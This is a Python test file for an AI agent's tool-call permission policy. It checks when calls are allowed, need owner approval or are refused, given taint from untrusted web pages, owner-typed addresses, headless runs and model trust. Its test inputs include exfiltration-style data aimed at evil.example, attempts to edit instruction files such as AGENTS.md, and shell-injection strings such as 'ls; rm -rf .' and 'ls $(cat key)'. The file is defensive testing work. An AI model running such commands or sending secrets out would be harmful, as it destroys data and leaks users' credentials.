"""What a call may do: cleanly, after reading untrusted words, and when nobody is there."""

from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homarus.domain.acts import ProposedCall, Risk, Ruling, ToolTraits
from homarus.domain.content import ToolCall
from homarus.domain.ids import CallId
from homarus.domain.instructions import is_instruction_file
from homarus.domain.labels import HOUSE, OWNER, Label, Origin
from homarus.policy.judge import Grant, Rules, grant_of, judge

Propose = Callable[..., ProposedCall]
WEB = Label(origin=Origin.WEB, source="web.fetch https://evil.example")
ORDER = {Ruling.ALLOW: 0, Ruling.ASK: 1, Ruling.REFUSE: 2}


def ruling(call: ProposedCall, rules: Rules | None = None) -> Ruling:
    return judge(call, rules or Rules()).ruling


def test_reading_is_allowed_even_after_untrusted_words(propose: Propose) -> None:
    assert ruling(propose(Risk.READ, {"path": "a"}, labels=(WEB,))) is Ruling.ALLOW


@pytest.mark.parametrize("risk", [Risk.REACH, Risk.WRITE])
def test_a_clean_context_reaches_and_writes_without_asking(propose: Propose, risk: Risk) -> None:
    assert ruling(propose(risk, {"path": "a.txt"}, key=("path",))) is Ruling.ALLOW


@pytest.mark.parametrize("risk", [Risk.ACT, Risk.RUN])
def test_what_cannot_be_taken_back_is_asked_for(propose: Propose, risk: Risk) -> None:
    assert ruling(propose(risk, {"to": "lena"}, key=("to",), words="write to lena")) is Ruling.ASK


def test_a_tainted_context_asks_before_it_fetches_an_address_that_the_owner_did_not_type(propose: Propose) -> None:
    call = propose(Risk.REACH, {"url": "https://evil.example/?q=secret"}, key=("url",), labels=(OWNER, WEB))
    verdict = judge(call, Rules())
    assert verdict.ruling is Ruling.ASK
    assert "https://evil.example" in verdict.because


def test_an_address_that_the_owner_typed_is_fetched_also_when_tainted(propose: Propose) -> None:
    url = "https://example.org/page"
    assert ruling(propose(Risk.REACH, {"url": url}, words=f"read {url}, please", labels=(WEB,))) is Ruling.ALLOW


@pytest.mark.parametrize("url", ["https://example.org/p", "https://example.org/page?leak=1", "https://example.org"])
def test_a_piece_of_a_typed_address_or_more_of_it_is_another_address(propose: Propose, url: str) -> None:
    call = propose(Risk.REACH, {"url": url}, words="read https://example.org/page", labels=(WEB,))
    assert ruling(call) is Ruling.ASK


def test_a_tainted_write_to_a_named_file_is_allowed_unless_it_smuggles_a_link(propose: Propose) -> None:
    def write(text: str) -> Ruling:
        arguments = {"path": "notes.txt", "text": text}
        call = propose(Risk.WRITE, arguments, key=("path",), words="write it to notes.txt", labels=(WEB,))
        return ruling(call)

    assert write("a plain summary") is Ruling.ALLOW
    assert write("see https://evil.example/x") is Ruling.ASK
    assert write("mail it to eve@evil.example") is Ruling.ASK
    assert write("the key is sk4f9Ak29dkKJ3ls8Q") is Ruling.ASK


@pytest.mark.parametrize("path", ["AGENTS.md", "./soul.MD", "memory/../MEMORY.md", "skills/x/run.md", "a\\AGENTS.md"])
def test_files_that_steer_the_agent_are_asked_for(propose: Propose, path: str) -> None:
    assert is_instruction_file(path)
    assert ruling(propose(Risk.WRITE, {"path": path}, key=("path",), words="tidy up")) is Ruling.ASK


def test_the_owner_may_have_an_instruction_file_changed_but_only_cleanly(propose: Propose) -> None:
    call = propose(Risk.WRITE, {"path": "AGENTS.md"}, key=("path",), words="add that to AGENTS.md")
    assert ruling(call) is Ruling.ALLOW
    assert ruling(replace(call, labels=(*call.labels, WEB))) is Ruling.ASK


def test_where_nobody_can_be_asked_a_question_is_a_no(propose: Propose) -> None:
    assert ruling(propose(Risk.ACT, {"to": "x"}, is_headless=True)) is Ruling.REFUSE


def test_a_tool_that_is_not_the_one_looked_up_is_refused(propose: Propose) -> None:
    call = propose(Risk.READ)
    other = ToolCall(call_id=CallId("c"), name="another", arguments={})
    assert ruling(replace(call, call=other)) is Ruling.REFUSE


def test_a_risk_that_no_rule_knows_is_asked_for(propose: Propose) -> None:
    call = propose(Risk.READ)
    strange = ToolTraits(name="t", risk="brand-new")  # pyright: ignore[reportArgumentType] - a plugin's mistake
    assert ruling(replace(call, traits=strange)) is Ruling.ASK


@pytest.mark.parametrize("risk", [Risk.REACH, Risk.WRITE, Risk.ACT, Risk.RUN])
def test_a_model_that_obeys_pages_does_no_more_than_read_unasked(propose: Propose, risk: Risk) -> None:
    call = replace(propose(risk, {"path": "a.txt"}, key=("path",), words="write a.txt"), most_risk=Risk.READ)
    verdict = judge(call, Rules())
    assert verdict.ruling is Ruling.ASK
    assert "driving test" in verdict.because
    assert ruling(replace(call, is_headless=True)) is Ruling.REFUSE


def test_a_model_that_obeys_pages_still_reads(propose: Propose) -> None:
    assert ruling(replace(propose(Risk.READ), most_risk=Risk.READ)) is Ruling.ALLOW


@pytest.mark.parametrize("risk", list(Risk))
def test_a_model_that_is_trusted_with_nothing_asks_before_every_tool(propose: Propose, risk: Risk) -> None:
    assert ruling(replace(propose(risk), most_risk=None)) is Ruling.ASK


def test_a_yes_for_the_session_holds_also_for_a_model_that_is_not_trusted(propose: Propose) -> None:
    call = replace(propose(Risk.WRITE, {"path": "a.txt"}, key=("path",)), most_risk=Risk.READ)
    assert ruling(call, Rules(grants=frozenset({grant_of(call)}))) is Ruling.ALLOW


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la notes", Ruling.ALLOW),
        (["ls", "-la"], Ruling.ALLOW),
        ("ls; rm -rf .", Ruling.ASK),
        ("ls $(cat key)", Ruling.ASK),
        ("ls > out", Ruling.ASK),
        ("/tmp/ls", Ruling.ASK),
        ("rm notes", Ruling.ASK),
        ("bash -c ls", Ruling.ASK),
        ("LS=1 ls", Ruling.ASK),
        ("ls 'unclosed", Ruling.ASK),
        ("", Ruling.ASK),
    ],
)
def test_only_a_plain_call_of_a_named_program_runs_unasked(propose: Propose, command: object, expected: Ruling) -> None:
    rules = Rules(exec_mode="allowlist", safe_bins=frozenset({"ls", "bash"}))
    assert ruling(propose(Risk.RUN, {"command": command}, key=("command",)), rules) is expected
    assert ruling(propose(Risk.RUN, {"command": command}, key=("command",), labels=(WEB,)), rules) is Ruling.ASK


def test_a_shell_that_is_switched_off_is_refused(propose: Propose) -> None:
    assert ruling(propose(Risk.RUN, {"command": "ls"}), Rules(exec_mode="deny")) is Ruling.REFUSE


def test_a_grant_holds_for_the_same_deciding_arguments_only(propose: Propose) -> None:
    call = propose(Risk.RUN, {"command": "make test", "note": "a"}, key=("command",))
    rules = Rules(grants=frozenset({grant_of(call)}))
    assert ruling(propose(Risk.RUN, {"command": "make test", "note": "b"}, key=("command",)), rules) is Ruling.ALLOW
    assert ruling(propose(Risk.RUN, {"command": "make clean"}, key=("command",)), rules) is Ruling.ASK


def test_a_grant_given_cleanly_does_not_outlive_untrusted_words(propose: Propose) -> None:
    call = propose(Risk.RUN, {"command": "make test"}, key=("command",))
    rules = Rules(grants=frozenset({grant_of(call)}))
    assert ruling(replace(call, labels=(OWNER, WEB)), rules) is Ruling.ASK


# --- properties ---------------------------------------------------------------------------------------------------

texts = st.text(max_size=30)
arguments = st.dictionaries(st.sampled_from(["url", "path", "to", "text", "command"]), texts, max_size=4)
labels = st.lists(st.sampled_from([OWNER, HOUSE, WEB, *(Label(origin=origin) for origin in Origin)]), max_size=4)
risks = st.sampled_from(list(Risk))
rules = st.builds(
    Rules,
    exec_mode=st.sampled_from(["ask", "deny", "allowlist"]),
    safe_bins=st.frozensets(st.sampled_from(["ls", "cat"])),
    grants=st.frozensets(
        st.builds(Grant, tool=st.just("t"), deciding=st.just("{}"), was_tainted=st.just(False)), max_size=1
    ),
)


@st.composite
def calls(draw: st.DrawFn) -> ProposedCall:
    keys = frozenset({"url", "path", "to", "command"})
    return ProposedCall(
        call=ToolCall(call_id=CallId("c"), name="t", arguments=draw(arguments)),
        traits=ToolTraits(name="t", risk=draw(risks), key_arguments=keys),
        labels=tuple(draw(labels)),
        owner_words=draw(texts),
        is_headless=draw(st.booleans()),
    )


@given(calls(), rules)
def test_a_tainted_context_never_acts_or_runs_unasked(call: ProposedCall, given_rules: Rules) -> None:
    tainted = replace(call, labels=(*call.labels, WEB))
    if call.traits.risk in (Risk.ACT, Risk.RUN):
        assert ruling(tainted, given_rules) is not Ruling.ALLOW


@given(calls(), rules, labels)
def test_more_labels_never_allow_more(call: ProposedCall, given_rules: Rules, more: list[Label]) -> None:
    wider = replace(call, labels=(*call.labels, *more))
    assert ORDER[ruling(wider, given_rules)] >= ORDER[ruling(call, given_rules)]


@given(calls(), rules, st.sampled_from([None, *Risk]))
def test_less_trust_in_a_model_never_allows_more(call: ProposedCall, given_rules: Rules, trust: Risk | None) -> None:
    doubted = replace(call, most_risk=trust)
    assert ORDER[ruling(doubted, given_rules)] >= ORDER[ruling(call, given_rules)]


@given(calls(), rules)
def test_without_a_person_nothing_is_asked(call: ProposedCall, given_rules: Rules) -> None:
    assert ruling(replace(call, is_headless=True), given_rules) is not Ruling.ASK
